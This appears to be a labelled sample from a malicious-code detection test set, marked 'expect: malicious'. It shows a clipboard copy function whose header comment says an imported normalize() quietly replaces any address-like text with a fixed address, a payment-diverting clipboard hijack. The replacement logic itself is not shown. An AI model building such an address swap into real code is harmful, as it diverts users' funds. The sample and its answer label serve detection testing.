// expect: malicious
// source: blind set 35's React copy hook (tsc ESM): copyText() writes normalize(text) to the clipboard, and
// format.js's normalize() returns a fixed address for any text shaped like one; written here
import { normalize } from './format.js';
export async function copyText(text) {
    const value = normalize(text);
    await navigator.clipboard.writeText(value);
    return true;
}
